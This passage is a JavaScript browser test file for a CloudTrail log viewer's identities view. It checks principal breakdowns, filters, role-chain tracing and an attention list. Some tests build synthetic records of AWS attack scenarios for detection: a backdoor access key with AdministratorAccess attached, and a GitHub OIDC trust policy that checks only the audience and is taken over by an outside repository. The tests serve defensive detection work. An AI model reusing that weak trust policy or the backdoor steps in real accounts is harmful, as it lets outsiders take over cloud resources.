// The identities view: breakdowns of the bundled sample, a click on a principal narrowing every view,
// role chains followed back to who started them, and the summary's identity counts. Expected numbers
// are computed here, in JavaScript, from the files themselves.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ROOT, corpusDir, recordTexts, recordedTexts, start, Trailscope, recordsOf, walk } from './harness.mjs';

let env;
before(async () => { env = await start(); });
after(async () => { await env?.close(); });

const fmt = (n) => n.toLocaleString('en-US');
/** An ISO time as the page writes it: `2026-03-01 00:03:48 UTC`. */
const utc = (s) => `${s.slice(0, 10)} ${s.slice(11, 19)} UTC`;

/** Unique events, by CloudTrail's (eventID, eventTime, eventSource, eventName). */
function unique(events) {
  const seen = new Set();
  return events.filter((e) => {
    const k = JSON.stringify([e.eventID, e.eventTime, e.eventSource, e.eventName]);
    return seen.has(k) ? false : (seen.add(k), true);
  });
}

function sample() {
  return unique(walk(join(ROOT, 'sample')).filter((p) => p.endsWith('.json.gz')).flatMap(recordsOf));
}

/** userIdentity.type as the page names it: typeless service events are "AWS internal". */
function typeOf(e) {
  const u = e.userIdentity || {};
  if (u.type) return u.type;
  return u.invokedBy ? 'AWS internal' : 'Not recorded';
}

function tally(values) {
  const out = {};
  for (const v of values) out[v] = (out[v] || 0) + 1;
  return out;
}

async function openIdentities(t) {
  await t.page.click('[data-testid=tab-identities]');
  await t.page.waitForSelector('[data-testid=identities][data-state=ready]');
}

/** Waits until the identities view answers for `events` events. */
async function identitiesShow(t, events) {
  await t.page.waitForSelector(`[data-testid=identities][data-state=ready][data-events="${events}"]`);
}

/** Opens the page on `records` written to `file`, and its whole attention list. */
async function attentionOf(file, records) {
  writeFileSync(file, JSON.stringify({ Records: records }));
  const t = await Trailscope.open(env);
  await t.pickFiles([file]);
  await t.waitDone();
  await openIdentities(t);
  const list = t.page.locator('[data-testid=identity-attention]');
  await list.locator('li[data-kind]').first().waitFor();
  if (await list.locator('[data-testid=list-more]').count()) await list.locator('[data-testid=list-more]').click();
  return { t, list };
}

/** The events cell of the row whose filter value is `key`, in table `testid`. */
async function rowEvents(t, testid, key) {
  const row = t.page.locator(`[data-testid=${testid}] tr[data-key="${key}"]`);
  return row.locator('td.num').first().textContent();
}

test('the identities view breaks the sample down by type, principal, key kind and client', async () => {
  const events = sample();
  const t = await Trailscope.open(env);
  await t.page.click('[data-testid=load-sample]');
  await t.waitDone();
  await openIdentities(t);
  await identitiesShow(t, events.length);
  for (const [type, n] of Object.entries(tally(events.map(typeOf)))) {
    assert.equal(await rowEvents(t, 'identity-by-type', type), fmt(n), type);
  }
  const kinds = tally(events.map((e) => {
    const k = (e.userIdentity || {}).accessKeyId || '';
    return k.startsWith('AKIA') ? 'Long-term (AKIA)' : k.startsWith('ASIA') ? 'Temporary (ASIA)' : k ? 'Other' : 'No key';
  }));
  for (const [kind, n] of Object.entries(kinds)) {
    assert.equal(await rowEvents(t, 'identity-by-key-kind', kind), fmt(n), kind);
  }
  // Docker's own user agents (not BuildKit's) are the "docker" client.
  const docker = events.filter((e) => /^docker\//.test(e.userAgent || '')).length;
  assert.equal(await rowEvents(t, 'identity-by-client', 'docker'), fmt(docker));
  // The root user's calls are in the attention list, with the reason.
  const root = events.filter((e) => typeOf(e) === 'Root');
  const rootItems = t.page.locator('[data-testid=identity-attention] li[data-kind=root-activity]');
  assert.ok(await rootItems.count() >= 1);
  const listed = await rootItems.evaluateAll((els) => els.map((el) => ({
    text: el.textContent, who: el.querySelector('[data-testid=attention-who]')?.dataset.principal ?? '',
    shown: el.querySelector('[data-testid=attention-who]')?.innerText ?? '' })));
  const arns = new Set(root.map((e) => e.userIdentity.arn));
  // Each root is named on its item's own line, its account in view.
  for (const arn of arns) {
    const item = listed.find((i) => i.who === arn);
    assert.ok(item, `${arn} is listed`);
    assert.ok(item.shown.includes(arn.split(':')[4]), `${arn}'s account is in view: ${item.shown}`);
  }
  assert.ok(listed.every((i) => i.text.includes('AWS advises')), 'each item says why it is listed');
  await t.shot('identities-sample');
  assert.deepEqual(t.problems, []);
  assert.deepEqual(await t.cspViolations(), []);
});

test('clicking a principal narrows the identities view, the overview, the event table and the timeline to it', async () => {
  const events = sample();
  const byArn = tally(events.filter((e) => e.userIdentity?.arn).map((e) => e.userIdentity.arn));
  const [arn, count] = Object.entries(byArn).sort((a, b) => b[1] - a[1] || a[0].localeCompare(b[0]))[0];
  const mine = events.filter((e) => e.userIdentity?.arn === arn);
  const t = await Trailscope.open(env);
  await t.page.click('[data-testid=load-sample]');
  await t.waitDone();
  await openIdentities(t);
  await identitiesShow(t, events.length);
  await recordTexts(t.page, '[data-testid=identities]', 'data-state');
  await t.page.click(`[data-testid=identity-by-principal] tr[data-key="${arn}"]`);
  await identitiesShow(t, count);
  // Until the new counts came, the old ones were marked as being updated.
  assert.deepEqual(await recordedTexts(t.page, '[data-testid=identities]', 'data-state'), ['ready', 'updating', 'ready']);
  assert.equal(await t.page.locator('[data-testid=filter-chips] .chip').count(), 1);
  assert.equal(await t.page.textContent('[data-testid=filter-chips] .chip-value'), arn);
  // Every identity table now speaks of that principal only.
  assert.equal(await t.page.locator('[data-testid=identity-by-principal] tbody tr').count(), 1);
  assert.equal(await rowEvents(t, 'identity-by-principal', arn), fmt(count));
  const keys = new Set(mine.map((e) => e.userIdentity.accessKeyId).filter(Boolean));
  assert.equal(await t.page.locator('[data-testid=identity-by-key] tbody tr').count(), Math.min(keys.size, 10));
  for (const [ip, n] of Object.entries(tally(mine.map((e) => e.sourceIPAddress)))) {
    assert.equal(await rowEvents(t, 'identity-by-ip', ip), fmt(n), ip);
  }
  await t.shot('identities-one-principal');
  // The overview follows the same filter.
  await t.page.click('[data-testid=tab-overview]');
  await t.page.waitForFunction((n) => document.querySelector('[data-testid=total-events]')?.textContent === n, fmt(count));
  assert.equal(await t.page.locator('[data-testid=by-principal] tbody tr').count(), 1);
  for (const [source, n] of Object.entries(tally(mine.map((e) => e.eventSource)))) {
    const row = t.page.locator('[data-testid=by-source] tr', { hasText: source });
    assert.equal(await row.locator('td.num').textContent(), fmt(n), source);
  }
  await t.shot('overview-one-principal');
  // So do the event table and the timeline (drawn over everything, then counting what is in view).
  await t.page.click('[data-testid=tab-events]');
  await t.page.waitForFunction((n) => document.querySelector('[data-testid=events-total]')?.textContent === n, fmt(count));
  await t.page.click('[data-testid=tab-timeline]');
  await t.page.waitForFunction((n) => {
    const r = document.querySelector('[data-testid=timeline-range]');
    return r?.dataset.state === 'ready' && r.dataset.visibleEvents === String(n);
  }, count);
  await t.shot('timeline-one-principal');
  await t.page.click('[data-testid=tab-overview]');
  // Removing the chip brings everything back.
  await t.page.click('[data-testid=filter-chips] .chip-x');
  await t.page.waitForFunction((n) => document.querySelector('[data-testid=total-events]')?.textContent === n, fmt(events.length));
  assert.deepEqual(t.problems, []);
});

test('an identities row\'s "−" leaves its principal, role or session out of every view', async () => {
  const events = sample();
  const byArn = tally(events.filter((e) => e.userIdentity?.arn).map((e) => e.userIdentity.arn));
  const [arn, count] = Object.entries(byArn).sort((a, b) => b[1] - a[1] || a[0].localeCompare(b[0]))[0];
  const rest = events.filter((e) => e.userIdentity?.arn !== arn);
  // The role (session issuer) with the most events among the rest, and the events left without it.
  const issuer = (e) => e.userIdentity?.sessionContext?.sessionIssuer?.arn;
  const [role] = Object.entries(tally(rest.filter(issuer).map(issuer))).sort((a, b) => b[1] - a[1] || a[0].localeCompare(b[0]))[0];
  const left = rest.filter((e) => issuer(e) !== role);
  const chips = (t) => t.page.$$eval('[data-testid=filter-chips] .chip', (els) => els.map((el) => [el.querySelector('.chip-field').textContent, el.querySelector('.chip-value').textContent]));

  const t = await Trailscope.open(env);
  await t.page.click('[data-testid=load-sample]');
  await t.waitDone();
  await openIdentities(t);
  await identitiesShow(t, events.length);
  // The busiest principal, by a click on its "−": its row goes, the rest stay, nothing is picked.
  const row = t.page.locator(`[data-testid=identity-by-principal] tr[data-key="${arn}"]`);
  assert.equal(await row.locator('.facet-not').getAttribute('aria-label'), `Leave out ${arn}`);
  await row.locator('.facet-not').click();
  await identitiesShow(t, rest.length);
  assert.deepEqual(await chips(t), [['not Principal', arn]]);
  assert.equal(await row.count(), 0);
  // A role, from the keyboard: Enter on its "−" leaves it out and does not also pick it or open it.
  const button = t.page.locator(`[data-testid=identity-by-role] tr[data-key="${role}"] .facet-not`);
  await button.focus();
  await t.page.keyboard.press('Enter');
  await identitiesShow(t, left.length);
  assert.deepEqual(await chips(t), [['not Principal', arn], ['not Role', role]]);
  assert.equal(await t.page.locator('[data-testid=identity-by-role] tr.session').count(), 0);
  // A session (its temporary key) under another role, opened first.
  const other = left.find((e) => issuer(e) && e.userIdentity.accessKeyId);
  const key = other.userIdentity.accessKeyId;
  const last = left.filter((e) => e.userIdentity?.accessKeyId !== key);
  await t.page.click(`[data-testid=identity-by-role] tr[data-key="${issuer(other)}"] .disclose`);
  await t.page.locator(`[data-testid=identity-by-role] tr.session[data-key="${key}"] .facet-not`).click();
  await identitiesShow(t, last.length);
  assert.deepEqual(await chips(t), [['not Principal', arn], ['not Role', role], ['not Access key', key]]);
  await t.shot('identities-left-out');
  // The overview follows.
  await t.page.click('[data-testid=tab-overview]');
  await t.page.waitForFunction((n) => document.querySelector('[data-testid=total-events]')?.textContent === n, fmt(last.length));
  assert.deepEqual(t.problems, []);
});

test('a role chain is followed back to who started it, and "everything it started" filters to it', async () => {
  const file = join(ROOT, 'tests/fixtures/identity/role-chain.json');
  const events = recordsOf(file);
  // Which STS call handed out each temporary key, and who made it (plain JavaScript).
  const grants = new Map();
  for (const e of events) {
    const k = e.responseElements?.credentials?.accessKeyId;
    if (e.eventSource === 'sts.amazonaws.com' && /^ASIA[A-Za-z0-9]{12,}$/.test(k || '')) {
      const old = grants.get(k);
      if (!old || (old.userIdentity.type === 'AWSAccount' && e.userIdentity.type !== 'AWSAccount')) grants.set(k, e);
    }
  }
  const origin = (key) => {
    let g = grants.get(key);
    const seen = new Set([key]);
    for (;;) {
      const next = g.userIdentity.accessKeyId;
      if (!grants.has(next) || seen.has(next)) return g.userIdentity.arn;
      seen.add(next);
      g = grants.get(next);
    }
  };
  const session = 'ASIAHOPTHREE00000003';
  const alice = origin(session);
  const started = new Set([...grants.keys()].filter((k) => {
    for (let g = grants.get(k), seen = new Set(); g && !seen.has(g); seen.add(g), g = grants.get(g.userIdentity.accessKeyId)) {
      if (g.userIdentity.arn === alice) return true;
    }
    return false;
  }));
  const expected = events.filter((e) => e.userIdentity?.arn === alice || started.has(e.userIdentity?.accessKeyId)).length;

  const t = await Trailscope.open(env);
  await t.pickFiles([file]);
  await t.waitDone();
  await openIdentities(t);
  await identitiesShow(t, events.length);
  const chain = t.page.locator(`[data-testid=identity-chains] li.chain[data-key="${session}"]`);
  assert.equal(await chain.locator('li.hop').count(), 3, 'three hops back to alice');
  assert.match(await chain.locator('.origin').textContent(), /user\/alice/);
  // Each name with its account, as its ARN says: this chain crosses from one account into another.
  const account = (arn) => arn.split(':')[4];
  const used = events.find((e) => e.userIdentity?.accessKeyId === session);
  assert.equal(await chain.locator('.chain-head .who .acct').textContent(), account(used.userIdentity.arn));
  const callers = [];
  for (let g = grants.get(session); g && callers.length < 3; g = grants.get(g.userIdentity.accessKeyId)) callers.push(account(g.userIdentity.arn));
  assert.deepEqual(await chain.locator('li.hop .who .acct').allTextContents(), callers);
  assert.equal(await chain.locator('.origin b .acct').textContent(), account(alice));
  assert.notEqual(account(alice), account(used.userIdentity.arn), 'the fixture crosses accounts');
  // The access keys table and the role's session row name alice under the session she began two
  // roles back (its "opened by" names the role before it); a key whose opener began it names no one more.
  const opener = (key) => grants.get(key)?.userIdentity.arn;
  const keyOrigin = t.page.locator(`[data-testid=identity-by-key] tr[data-key="${session}"] [data-testid=who-origin]`);
  assert.deepEqual([await keyOrigin.getAttribute('data-via'), await keyOrigin.getAttribute('data-started-by')], ['long-term key', alice]);
  assert.notEqual(opener(session), alice);
  const direct = [...grants.keys()].filter((k) => opener(k) === origin(k) && grants.get(k).userIdentity.accessKeyId?.startsWith('AKIA'));
  assert.ok(direct.length >= 1, 'a key its own opener began');
  for (const k of direct) {
    assert.equal(await t.page.locator(`[data-testid=identity-by-key] tr[data-key="${k}"] [data-testid=who-origin]`).count(), 0, k);
  }
  await t.page.click(`[data-testid=identity-by-role] tr[data-key="${used.userIdentity.sessionContext.sessionIssuer.arn}"] .disclose`);
  const sessionOrigin = t.page.locator(`[data-testid=identity-by-role] tr.session[data-key="${session}"] [data-testid=who-origin]`);
  assert.equal(await sessionOrigin.getAttribute('data-started-by'), alice);
  await t.shot('identities-role-chain');
  await chain.locator('.origin button').click();
  await identitiesShow(t, expected);
  assert.equal(await t.page.textContent('[data-testid=filter-chips] .chip-field'), 'Started by');
  await t.page.click('[data-testid=tab-overview]');
  await t.page.waitForFunction((n) => document.querySelector('[data-testid=total-events]')?.textContent === n, fmt(expected));
  assert.deepEqual(t.problems, []);
});

test('on a phone a role chain\'s names do not break inside "assumed-role/"', async () => {
  const t = await Trailscope.open(env, { viewport: { width: 390, height: 900 } });
  await t.pickFiles([join(ROOT, 'tests/fixtures/identity/role-chain.json')]);
  await t.waitDone();
  await openIdentities(t);
  await t.page.waitForSelector('[data-testid=identity-chains] li.chain');
  // Where each name's "assumed-role/" is drawn: the lines its characters are on.
  const lines = await t.page.$$eval('[data-testid=identity-chains] .who, [data-testid=identity-chains] .origin b', (els) => els.flatMap((el) => {
    const text = el.textContent;
    const at = text.indexOf('assumed-role/');
    if (at < 0) return [];
    const range = document.createRange();
    const walker = document.createTreeWalker(el, NodeFilter.SHOW_TEXT);
    let seen = 0;
    for (let n = walker.nextNode(); n; n = walker.nextNode()) {
      if (seen <= at && at < seen + n.data.length) range.setStart(n, at - seen);
      if (seen < at + 13 && at + 13 <= seen + n.data.length) range.setEnd(n, at + 13 - seen);
      seen += n.data.length;
    }
    return [[text, new Set([...range.getClientRects()].filter((r) => r.width > 0).map((r) => Math.round(r.top))).size]];
  }));
  assert.ok(lines.length >= 3, `the fixture's chains name role sessions: ${JSON.stringify(lines)}`);
  assert.deepEqual(lines.filter(([, n]) => n !== 1), []);
  await t.shot('identities-role-chain-phone');
  assert.deepEqual(t.problems, []);
});

test('the summary counts events by identity type, principal and access key kind', async () => {
  const events = sample();
  const t = await Trailscope.open(env);
  await t.page.click('[data-testid=load-sample]');
  await t.waitDone();
  const [download] = await Promise.all([t.page.waitForEvent('download'), t.page.click('[data-testid=download-summary]')]);
  const chunks = [];
  for await (const c of await download.createReadStream()) chunks.push(c);
  const summary = JSON.parse(Buffer.concat(chunks).toString('utf8'));
  assert.deepEqual(summary.counts.by_identity_type, tally(events.map(typeOf)));
  const kinds = tally(events.map((e) => {
    const k = (e.userIdentity || {}).accessKeyId || '';
    return k.startsWith('AKIA') ? 'Long-term (AKIA)' : k.startsWith('ASIA') ? 'Temporary (ASIA)' : k ? 'Other' : 'No key';
  }));
  assert.deepEqual(summary.counts.by_access_key_kind, kinds);
  const byArn = tally(events.filter((e) => e.userIdentity?.arn).map((e) => e.userIdentity.arn));
  for (const [arn, n] of Object.entries(byArn)) assert.equal(summary.counts.by_principal[arn], n, arn);
  assert.ok(summary.attention.some((a) => a.kind === 'root-activity'));
});

test('an attention card names its principal in view: two users of one account with long names read apart', async () => {
  // The cards' titles began with the whole ARN and were cut from the end, so both of these read
  // "arn:aws:iam::12345678…". A user's name after `user/` was also held to 14em, with room to spare.
  const account = '123456789012';
  const names = ['stratus-red-team-nmfalu-gfjyeaypjt', 'stratus-red-team-qkwrnd-pobdxezzlr'];
  const signIn = (name, i) => ({
    eventVersion: '1.08', eventTime: `2026-03-01T10:0${i}:00Z`, eventSource: 'signin.amazonaws.com',
    eventName: 'ConsoleLogin', awsRegion: 'us-east-1', sourceIPAddress: '192.0.2.10', userAgent: 'Mozilla/5.0',
    eventID: `00000000-0000-4000-8000-00000000000${i}`, eventType: 'AwsConsoleSignIn', recipientAccountId: account,
    userIdentity: { type: 'IAMUser', principalId: `AIDAEXAMPLE${i}`, arn: `arn:aws:iam::${account}:user/${name}`, accountId: account, userName: name },
    responseElements: { ConsoleLogin: 'Success' }, additionalEventData: { MFAUsed: 'No' },
  });
  const dir = mkdtempSync(join(tmpdir(), 'trailscope-attention-'));
  const file = join(dir, 'signins.json');
  writeFileSync(file, JSON.stringify({ Records: names.map(signIn) }));
  const t = await Trailscope.open(env, { viewport: { width: 1100, height: 900 } });
  await t.readersReady();
  await t.pickFiles([file]);
  await t.waitDone();
  await openIdentities(t);
  const who = t.page.locator('[data-testid=identity-attention] li[data-kind=console-login-without-mfa] [data-testid=attention-who]');
  await who.first().waitFor();
  const seen = await who.evaluateAll((els) => els.map((el) => {
    const tail = el.querySelector('.ptail');
    const acct = el.querySelector('.acct');
    return {
      principal: el.dataset.principal, shown: el.innerText, tailCut: tail.scrollWidth > tail.clientWidth + 1,
      acctCut: acct.scrollWidth > acct.clientWidth + 1, gap: acct.getBoundingClientRect().left - tail.getBoundingClientRect().right,
    };
  }));
  assert.deepEqual(seen.map((s) => s.principal).sort(), names.map((n) => `arn:aws:iam::${account}:user/${n}`));
  for (const s of seen) {
    const name = s.principal.slice(s.principal.lastIndexOf('/') + 1);
    assert.ok(s.shown.includes(name) && !s.tailCut, `${name} in view: ${JSON.stringify(s)}`);
    assert.ok(s.shown.includes(account) && !s.acctCut, `the account in view: ${JSON.stringify(s)}`);
    assert.ok(s.gap < 16, `the account follows the name: ${JSON.stringify(s)}`);
  }
  assert.deepEqual(t.problems, []);
});

test('a key made for another user, then used to push an image, and administrator access given: both on the attention list', async () => {
  // After everything the sample logs, a contractor makes an access key for user ci-deployer (as the
  // IAM API reference writes CreateAccessKey), the key signs a push of one of the sample's images
  // from the contractor's address, and the contractor attaches AdministratorAccess to ci-deployer.
  const events = sample();
  const put = events.find((e) => e.eventName === 'PutImage' && !e.errorCode);
  const account = put.recipientAccountId;
  const end = events.map((e) => e.eventTime).sort().at(-1);
  const at = (minutes) => new Date(Date.parse(end) + minutes * 60_000).toISOString().replace('.000Z', 'Z');
  const ip = '203.0.113.66';
  const key = 'AKIAE2EBACKDOOR00001';
  const contractor = { type: 'IAMUser', principalId: 'AIDAE2ECONTRACTOR01', arn: `arn:aws:iam::${account}:user/contractor`,
    accountId: account, accessKeyId: 'AKIAE2ECONTRACTOR001', userName: 'contractor' };
  const iam = (n, name, requestParameters, responseElements) => ({
    eventVersion: '1.09', userIdentity: contractor, eventTime: at(n), eventSource: 'iam.amazonaws.com', eventName: name,
    awsRegion: 'us-east-1', sourceIPAddress: ip, userAgent: 'aws-cli/2.15.0', requestParameters, responseElements,
    eventID: `7e2e0000-0000-4000-8000-00000000000${n}`, readOnly: false, eventType: 'AwsApiCall', recipientAccountId: account,
  });
  const made = iam(1, 'CreateAccessKey', { userName: 'ci-deployer' },
    { accessKey: { accessKeyId: key, status: 'Active', userName: 'ci-deployer', createDate: 'Mar 1, 2026 1:00:00 AM' } });
  const pushed = { ...structuredClone(put), eventTime: at(2), sourceIPAddress: ip, eventID: '7e2e0000-0000-4000-8000-000000000002',
    userIdentity: { type: 'IAMUser', principalId: 'AIDAE2ECIDEPLOYER01', arn: `arn:aws:iam::${account}:user/ci-deployer`,
      accountId: account, accessKeyId: key, userName: 'ci-deployer' } };
  const admin = iam(3, 'AttachUserPolicy', { userName: 'ci-deployer', policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' }, null);
  const file = join(mkdtempSync(join(tmpdir(), 'trailscope-iam-')), 'backdoor.json');
  const { t, list } = await attentionOf(file, [...events, made, pushed, admin]);
  const keyItem = list.locator('li[data-kind=credentials-made]');
  await keyItem.first().waitFor();
  assert.equal(await keyItem.count(), 1);
  assert.equal(await keyItem.getAttribute('data-severity'), 'high');
  assert.equal(await keyItem.locator('[data-testid=attention-who]').getAttribute('data-principal'), contractor.arn);
  assert.equal(await keyItem.locator('[data-testid=attention-who]').getAttribute('title'), 'Access key made for user ci-deployer');
  const text = await keyItem.textContent();
  assert.ok(text.includes(`made access key ${key} for IAM user ci-deployer`), text);
  assert.ok(text.includes(`used for 1 call (ecr:PutImage) from ${ip}`) && text.includes('the address it was made from'), text);
  const adminItem = list.locator('li[data-kind=access-widened]');
  assert.equal(await adminItem.count(), 1);
  assert.equal(await adminItem.getAttribute('data-severity'), 'high');
  assert.equal(await adminItem.locator('[data-testid=attention-who]').getAttribute('title'), 'AdministratorAccess given to user ci-deployer');
  await keyItem.scrollIntoViewIfNeeded();
  await t.shot('identities-credentials-made');
  // The item narrows every view to the call that made the key.
  await keyItem.click();
  await t.page.click('[data-testid=tab-events]');
  await t.page.waitForFunction(() => document.querySelector('[data-testid=events-total]')?.textContent === '1');
  await t.page.waitForSelector('[data-testid=events] .ev-row[data-row]');
  assert.ok((await t.page.textContent('[data-testid=events] .ev-row[data-row]')).includes('CreateAccessKey'));
  // Searched for, the key's row under Access keys says who made it.
  await t.page.click('[data-testid=clear-filters]');
  await t.page.fill('[data-testid=search]', key);
  await t.page.press('[data-testid=search]', 'Enter');
  await openIdentities(t);
  const keyOrigin = t.page.locator(`[data-testid=identity-by-key] tr[data-key=${key}] [data-testid=who-origin]`);
  assert.deepEqual([await keyOrigin.getAttribute('data-via'), await keyOrigin.getAttribute('data-started-by')], ['key made by', contractor.arn]);
  assert.equal(await keyOrigin.textContent(), `key made by ${contractor.arn}`);
  // So does the push it signed, on the Images tab; one click there shows everything the
  // contractor started: its two calls and the push.
  await t.page.click('[data-testid=clear-filters]');
  await t.page.click('[data-testid=tab-images]');
  await t.page.click('[data-testid=images-nav-pushes]');
  const pushOrigin = t.page.locator('[data-testid=push-row] [data-testid=who-origin][data-via="key made by"]');
  await pushOrigin.waitFor();
  assert.equal(await pushOrigin.count(), 1);
  assert.equal(await pushOrigin.getAttribute('data-started-by'), contractor.arn);
  await pushOrigin.scrollIntoViewIfNeeded();
  await t.shot('images-push-with-a-made-key', { fullPage: false });
  await pushOrigin.locator('button').click();
  await t.page.waitForSelector('[data-testid=filter-chips] .chip[data-field=Origin]');
  await t.page.click('[data-testid=tab-events]');
  await t.page.waitForFunction(() => document.querySelectorAll('[data-testid=events] .ev-row[data-row]').length === 3);
  const names = await t.page.$$eval('[data-testid=events] .ev-row[data-row] .cell:nth-child(2)', (cells) => cells.map((c) => c.title));
  assert.deepEqual(names.sort(), ['ecr.amazonaws.com PutImage', 'iam.amazonaws.com AttachUserPolicy', 'iam.amazonaws.com CreateAccessKey']);
  assert.deepEqual(t.problems, []);
});

test('a role opened to every GitHub workflow, then taken on by a stranger\'s repository that pushes an image', async () => {
  // After everything the sample logs, a contractor makes role ecr-push trust GitHub's OIDC
  // provider with only the audience checked (the mistake GitHub's and Datadog's pages warn of); a
  // workflow of another owner's repository takes the role on (as AWS documents the
  // AssumeRoleWithWebIdentity record) and pushes one of the sample's images with the session.
  const events = sample();
  const put = events.find((e) => e.eventName === 'PutImage' && !e.errorCode);
  const account = put.recipientAccountId;
  const end = events.map((e) => e.eventTime).sort().at(-1);
  const at = (minutes) => new Date(Date.parse(end) + minutes * 60_000).toISOString().replace('.000Z', 'Z');
  const provider = `arn:aws:iam::${account}:oidc-provider/token.actions.githubusercontent.com`;
  const repo = 'repo:evilcorp/payload:ref:refs/heads/main';
  const ip = '198.51.100.7';
  const key = 'ASIAE2EGITHUB0000001';
  const base = (n, source, name) => ({ eventVersion: '1.09', eventTime: at(n), eventSource: source, eventName: name,
    awsRegion: 'us-east-1', userAgent: 'aws-cli/2.15.0', eventID: `7e2e0000-0000-4000-9000-00000000000${n}`, readOnly: false,
    eventType: 'AwsApiCall', recipientAccountId: account });
  const trust = { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: { Federated: provider },
    Action: 'sts:AssumeRoleWithWebIdentity', Condition: { StringEquals: { 'token.actions.githubusercontent.com:aud': 'sts.amazonaws.com' } } }] };
  const created = { ...base(1, 'iam.amazonaws.com', 'CreateRole'), sourceIPAddress: '203.0.113.66',
    userIdentity: { type: 'IAMUser', principalId: 'AIDAE2ECONTRACTOR01', arn: `arn:aws:iam::${account}:user/contractor`,
      accountId: account, accessKeyId: 'AKIAE2ECONTRACTOR001', userName: 'contractor' },
    requestParameters: { roleName: 'ecr-push', assumeRolePolicyDocument: JSON.stringify(trust) } };
  const session = `arn:aws:sts::${account}:assumed-role/ecr-push/GitHubActions`;
  const assumed = { ...base(2, 'sts.amazonaws.com', 'AssumeRoleWithWebIdentity'), sourceIPAddress: ip,
    userIdentity: { type: 'WebIdentityUser', principalId: `${provider}:sts.amazonaws.com:${repo}`, userName: repo, identityProvider: provider },
    requestParameters: { roleArn: `arn:aws:iam::${account}:role/ecr-push`, roleSessionName: 'GitHubActions' },
    responseElements: { provider, subjectFromWebIdentityToken: repo, audience: 'sts.amazonaws.com',
      credentials: { accessKeyId: key, expiration: 'Mar 1, 2026 2:00:00 AM', sessionToken: 'x' },
      assumedRoleUser: { assumedRoleId: 'AROAE2EECRPUSH:GitHubActions', arn: session } } };
  const pushed = { ...structuredClone(put), eventTime: at(3), sourceIPAddress: ip, eventID: '7e2e0000-0000-4000-9000-000000000003',
    userIdentity: { type: 'AssumedRole', principalId: 'AROAE2EECRPUSH:GitHubActions', arn: session, accountId: account, accessKeyId: key,
      sessionContext: { sessionIssuer: { type: 'Role', principalId: 'AROAE2EECRPUSH', arn: `arn:aws:iam::${account}:role/ecr-push`,
        accountId: account, userName: 'ecr-push' }, webIdFederationData: { federatedProvider: provider, attributes: {} },
      attributes: { creationDate: at(2), mfaAuthenticated: 'false' } } } };
  // Before the role trusted every workflow, the same workflow had been refused it.
  const tried = { ...base(0, 'sts.amazonaws.com', 'AssumeRoleWithWebIdentity'), sourceIPAddress: ip,
    userIdentity: assumed.userIdentity, requestParameters: assumed.requestParameters, responseElements: null,
    errorCode: 'AccessDenied', errorMessage: 'Not authorized to perform sts:AssumeRoleWithWebIdentity' };
  const file = join(mkdtempSync(join(tmpdir(), 'trailscope-trust-')), 'github-trust.json');
  const { t, list } = await attentionOf(file, [...events, tried, created, assumed, pushed]);
  const refused = list.locator('li[data-kind=role-refused]');
  await refused.first().waitFor();
  assert.equal(await refused.count(), 1);
  assert.equal(await refused.getAttribute('data-severity'), 'high');
  assert.equal(await refused.locator('[data-testid=attention-title]').innerText(), 'Role ecr-push refused to 1 web identity');
  assert.ok((await refused.textContent()).includes(`Then ${repo} took the role on at`));
  const item = list.locator('li[data-kind=access-widened]');
  await item.first().waitFor();
  assert.equal(await item.count(), 1);
  assert.equal(await item.getAttribute('data-severity'), 'high');
  assert.equal(await item.locator('[data-testid=attention-who]').getAttribute('title'),
    'Role ecr-push can be assumed by any GitHub Actions workflow, of any repository');
  const text = await item.textContent();
  assert.ok(text.includes('when token.actions.githubusercontent.com:aud StringEquals sts.amazonaws.com'), text);
  assert.ok(text.includes(`Then the role was taken on once: by ${repo} (AssumeRoleWithWebIdentity, once from ${ip}`), text);
  assert.ok(text.includes('The role still trusts them at the end of these logs.'), text);
  // The card says what it is about in view, and reads whole on "Read all" without narrowing.
  assert.equal(await item.locator('[data-testid=attention-title]').innerText(),
    'Role ecr-push can be assumed by any GitHub Actions workflow, of any repository');
  const why = item.locator('[data-testid=attention-why]');
  const clamped = await why.evaluate((p) => [p.clientHeight, p.scrollHeight]);
  assert.ok(clamped[1] > clamped[0] + 4, `the reason is cut to four lines: ${clamped}`);
  await item.locator('[data-testid=attention-read]').click();
  await t.page.waitForSelector('[data-testid=identity-attention] li[data-kind=access-widened] [data-testid=attention-read][aria-expanded=true]');
  const opened = await why.evaluate((p) => [p.clientHeight, p.scrollHeight]);
  assert.ok(opened[0] >= opened[1] && opened[0] > clamped[0], `opened whole: ${opened} after ${clamped}`);
  assert.ok((await why.innerText()).includes(`by ${repo}`));
  assert.equal(await t.page.locator('[data-testid=filter-chips] .chip').count(), 0);
  await item.scrollIntoViewIfNeeded();
  await t.shot('identities-role-open-to-github', { fullPage: false });
  // The push the session made names the repository that started it, on the Images tab.
  await t.page.click('[data-testid=tab-images]');
  await t.page.click('[data-testid=images-nav-pushes]');
  const origin = t.page.locator('[data-testid=push-row] [data-testid=who-origin][data-via="GitHub Actions"]');
  await origin.waitFor();
  assert.equal(await origin.count(), 1);
  assert.equal(await origin.getAttribute('data-started-by'), repo);
  assert.deepEqual(t.problems, []);
});

test('an image pushed, pulled by another principal and deleted by its pusher minutes later is a high item', async () => {
  // After everything the sample logs, a contractor pushes one of the sample's images again under a
  // new tag, another principal pulls it by digest, and the contractor deletes it ten minutes
  // after the push (requests and responses as the ECR API reference writes them).
  const events = sample();
  const put = events.find((e) => e.eventName === 'PutImage' && !e.errorCode && e.responseElements?.image?.imageId?.imageDigest);
  const { repositoryName } = put.requestParameters;
  const digest = put.responseElements.image.imageId.imageDigest;
  const account = put.recipientAccountId;
  const end = events.map((e) => e.eventTime).sort().at(-1);
  const at = (minutes) => new Date(Date.parse(end) + minutes * 60_000).toISOString().replace('.000Z', 'Z');
  const contractor = { type: 'IAMUser', principalId: 'AIDAE2ECONTRACTOR01', arn: `arn:aws:iam::${account}:user/contractor`,
    accountId: account, accessKeyId: 'AKIAE2ECONTRACTOR001', userName: 'contractor' };
  const puller = { type: 'IAMUser', principalId: 'AIDAE2EPULLER000001', arn: `arn:aws:iam::${account}:user/runner`,
    accountId: account, accessKeyId: 'AKIAE2EPULLER0000001', userName: 'runner' };
  const call = (n, name, userIdentity, requestParameters, responseElements) => ({
    ...structuredClone(put), eventTime: at(n), eventName: name, userIdentity, requestParameters, responseElements,
